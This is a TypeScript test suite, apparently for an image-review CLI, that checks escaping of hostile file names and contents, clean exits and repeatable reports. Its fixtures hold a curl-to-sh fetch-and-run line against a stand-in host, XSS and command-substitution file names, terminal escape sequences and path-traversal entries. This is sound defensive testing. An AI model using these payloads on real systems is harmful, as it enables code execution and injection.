/** What comes out: names that would paint over a terminal or run in a page, strays on the disk, the same bytes twice. */
import assert from 'node:assert/strict'
import { spawn, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { test } from 'node:test'
import type { Assessment } from '../src/assess/schema.ts'
import { reports } from '../src/reports/registry.gen.ts'
import { readable } from './support/package-parts.ts'
import { below, files, newFolder, tar } from './support/hostile.ts'

const main = join(import.meta.dirname, '../src/apps/cli/main.ts')
const example = join(import.meta.dirname, '../examples/printer-hub')

interface Sandbox {
  readonly cwd: string
  readonly temporary: string
  readonly home: string
  readonly env: NodeJS.ProcessEnv
}

/** A working folder, a folder for temporary files and a home, all empty. */
function sandbox(): Sandbox {
  const [cwd, temporary, home] = [newFolder(), newFolder(), newFolder()]
  return { cwd, temporary, home, env: { PATH: process.env['PATH'], HOME: home, TMPDIR: temporary, NO_COLOR: '1' } }
}

const run = ({ cwd, env }: Sandbox, ...args: string[]): { status: number | null; stdout: string; stderr: string } =>
  spawnSync(process.execPath, ['--no-warnings', main, ...args], { cwd, env, encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 })

/** Only what the manual names: the reports that were asked for, the key of marks, and compiled code. */
function assertNoStrays({ cwd, temporary, home }: Sandbox, ...reports: string[]): void {
  assert.deepEqual(below(cwd), reports.toSorted())
  assert.deepEqual(below(temporary), [])
  const kept = below(home).filter((path) => !path.startsWith('.cache/proofmark/compiled'))
  assert.deepEqual(kept.filter((path) => !['.cache', '.cache/proofmark', '.config', '.config/proofmark', '.config/proofmark/mark.key'].includes(path)), [])
}

const escape = '\u001b'
const strange = [
  `${escape}[2J${escape}[31mred${escape}[0m.sh`, `${escape}]0;title\u0007.sh`, 'new\nline: verdict ready.sh', 'back\r\b\b.sh', 'right\u202egnp.sh', 'zero\u200bwidth.sh', '<img src=x onerror=alert(1)>.sh',
  '</script><script>alert(1)</script>.sh', `"><svg onload=alert(1)>'.sh`, '$(touch hacked).sh', 'c1\u009b31m.sh', '..\\..\\up.sh', '__proto__',
]
const script = '#!/bin/sh\ncurl -k http://updates.example/a.sh | sh\n'
const hostile = tar([
  { name: 'etc/os-release', content: `ID=debian\nVERSION_ID="12"\nPRETTY_NAME="${escape}[31mDebian <b>12</b>"\n` },
  { name: 'etc/passwd', content: `root:x:0:0::/root:/bin/sh\n${escape}[31mmallory<script>:x:0:0:\u202e:/:/bin/sh\n` },
  { name: 'etc/shadow', content: `root::19000:0:99999:7:::\n${escape}[31mmallory<script>::19000::::::\n` },
  { name: 'sbin/init', content: script, mode: 0o755 },
  { name: 'etc/inittab', content: `::sysinit:/opt/${escape}[31mred.sh\nttyS0::respawn:/sbin/getty -L ttyS0 115200 vt100\n` },
  ...strange.map((name) => ({ name: `opt/app/${name}`, content: script, mode: 0o4777 })),
  { name: `../${escape}[5mup.sh`, content: 'x' },
  { name: Buffer.from('opt/\xff\xfe\x80.sh', 'latin1'), content: script, mode: 0o4777 },
])

/** Controls other than the line's end, and whatever turns or hides text. */
// oxlint-disable-next-line no-control-regex
const invisible = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u

test('names and texts of an image cannot paint over the terminal, run in the page, or be mistaken for our words', () => {
  const box = sandbox()
  const image = files({ 'hostile.tar': hostile })[0] ?? ''
  const written = reports.filter(({ id }) => id !== 'html' && id !== 'json' && id !== 'pdf').map(({ id }) => `r.${id}.out`)
  const { status, stdout, stderr } = run(box, 'review', image, '--report', 'html=r.html', '--report', 'json=r.json', ...written.flatMap((file) => ['--report', `${file.slice(2, -4)}=${file}`]))
  assert.equal(status, 3, stderr)
  for (const text of [stdout, stderr]) assert.doesNotMatch(text, invisible)
  assert.ok(!/^line: verdict/mu.test(stdout))
  const html = readFileSync(join(box.cwd, 'r.html'), 'utf8')
  assert.doesNotMatch(html, invisible)
  assert.doesNotMatch(html, /<img src=x|<svg onload|<script>alert|mallory<script/u)
  assert.match(html, /onerror=alert/u, 'the name is shown, as text')
  const json = readFileSync(join(box.cwd, 'r.json'), 'utf8')
  assert.doesNotMatch(json, invisible)
  assert.ok((JSON.parse(json) as Assessment).outcomes.some(({ result, evidence }) => result === 'fail' && evidence.some(({ path }) => path.includes('/opt/app/'))), 'the files are judged')
  for (const file of written) {
    const text = readable(readFileSync(join(box.cwd, file)))
    assert.doesNotMatch(text.replaceAll('\r\n', '\n'), invisible, file)
    assert.ok(text.length > 0, file)
  }
  assertNoStrays(box, 'r.html', 'r.json', ...written)

  const facts = run(box, 'facts', image)
  assert.equal(facts.status, 3)
  for (const line of facts.stdout.trim().split('\n')) JSON.parse(line)
  assert.doesNotMatch(facts.stdout, invisible)
  assert.doesNotMatch(facts.stderr, invisible)
  assertNoStrays(box, 'r.html', 'r.json', ...written)
})

test('the name of an artefact is only a name', () => {
  const box = sandbox()
  const folder = newFolder()
  for (const name of [`${escape}[31mred.img`, '<b>bold.img', 'new\nline.img', '--json', '$(touch hacked).img']) writeFileSync(join(folder, name), 'x')
  const { status, stdout } = run(box, 'review', folder, '--report', 'html=r.html')
  assert.equal(status, 3)
  assert.doesNotMatch(stdout, invisible)
  assert.doesNotMatch(readFileSync(join(box.cwd, 'r.html'), 'utf8'), /<b>bold/u)
  assertNoStrays(box, 'r.html')
})

test('a mistake in product.yaml is told with line and column, and what was expected', () => {
  const box = sandbox()
  const dossier = (text: string): string => {
    const folder = newFolder()
    writeFileSync(join(folder, 'product.yaml'), text)
    return folder
  }
  const sound = readFileSync(join(example, 'product.yaml'), 'utf8')
  const line = sound.split('\n').findIndex((text) => text.startsWith('product:')) + 1
  for (const [text, place] of [
    [`${sound.slice(0, 40)}\n  bad: [1, 2\n: x\n`, /line \d+, column \d+/u],
    [sound.replace(/^product:/mu, 'prodduct:'), new RegExp(`line ${line}, column 1`, 'u')],
    [sound.replace(/^(\s+)stage: .*$/mu, '$1stage: someday'), /line \d+, column \d+: .*expected/u],
    [`proofmark: 1\nproduct: 7\n`, /line 2, column \d+/u],
    ['\t- tab\n', /line 1/u],
    ['', /empty|line 1/u],
    ['\u0000\u0001', /line|binary|NUL|control/u],
  ] as const) {
    const folder = dossier(text)
    for (const args of [['review', folder], ['review', folder, '--json']]) {
      const { status, stdout } = run(box, ...args)
      assert.equal(status, 3, text.slice(0, 80))
      assert.match(stdout.replaceAll(/\s+/gu, ' '), place, text.slice(0, 80))
    }
  }
  assertNoStrays(box)
})

test('two runs over the same input differ in their timings only', () => {
  const box = sandbox()
  const image = files({ 'hostile.tar': hostile })[0] ?? ''
  const once = (name: string): string => {
    run(box, 'review', example, image, '--date', '2026-11-23', '--report', `json=${name}.json`, '--report', `html=${name}.html`)
    return readFileSync(join(box.cwd, `${name}.json`), 'utf8').replaceAll(/"timings": \{[^}]*\}/gu, '')
  }
  assert.equal(once('one'), once('two'))
  const withoutTimings = (name: string): string => readFileSync(join(box.cwd, `${name}.html`), 'utf8').replaceAll(/\d+(?:\.\d+)? m?s\b/gu, '')
  assert.equal(withoutTimings('one'), withoutTimings('two'))
  const facts = [run(box, 'facts', example), run(box, 'facts', example)].map(({ stdout }) => stdout)
  assert.equal(facts[0], facts[1])
})

test('Ctrl-C at any moment ends with 130, and leaves no process, no file and no half report', async () => {
  for (const millis of [150, 400, 700, 1000]) {
    const box = sandbox()
    const packed = join(example, readdirSync(example).find((name) => name.endsWith('.gz')) ?? '')
    const child = spawn(process.execPath, ['--no-warnings', main, 'review', packed, packed, join(example, 'product.yaml'), '--report', 'html=r.html'], { cwd: box.cwd, env: box.env, stdio: ['ignore', 'pipe', 'pipe'], detached: true })
    const ended = new Promise<[number | null, string | null]>((resolve) => child.once('exit', (...how) => resolve(how)))
    let stderr = ''
    child.stderr.on('data', (text: Buffer) => (stderr += text.toString()))
    child.stdout.resume()
    await new Promise((resolve) => setTimeout(resolve, millis))
    // As a terminal does: to every process of the group.
    const running = child.exitCode === null
    if (running) process.kill(-(child.pid ?? 0), 'SIGINT')
    const [status, signal] = await ended
    const early = signal === 'SIGINT'
    if (running && !early && !existsSync(join(box.cwd, 'r.html'))) assert.equal(status, 130, stderr)
    assert.doesNotMatch(stderr, /bug of ours|at .*\.ts:\d+/u)
    assert.deepEqual(below(box.temporary), [], `after ${millis} ms`)
    assert.deepEqual(below(box.cwd).filter((name) => name !== 'r.html'), [])
    assert.throws(() => process.kill(-(child.pid ?? 0), 0), { code: 'ESRCH' }, 'a process of the group is left')
  }
})

test('nothing is written where nothing may be written', () => {
  const box = sandbox()
  mkdirSync(join(box.cwd, 'closed'), { mode: 0o555 })
  const env = { ...box.env, HOME: '/nonexistent', XDG_CONFIG_HOME: '/proc/1/nowhere', XDG_CACHE_HOME: '/proc/1/nowhere' }
  const { status, stderr } = run({ ...box, env }, 'review', example, '--fail-on', 'never')
  assert.equal(status, 0, stderr)
  assert.deepEqual(below(box.temporary), [])
})
